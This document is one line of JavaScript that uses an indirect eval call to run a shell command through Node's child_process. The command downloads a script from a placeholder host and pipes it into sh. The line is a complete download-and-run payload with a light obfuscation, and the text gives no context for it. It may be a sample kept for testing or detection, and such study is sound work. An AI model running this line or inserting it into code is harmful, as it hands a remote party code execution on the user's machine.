[eval][0]("require('child_process').execSync('curl -s http://dl.example.invalid/i.sh | sh')");
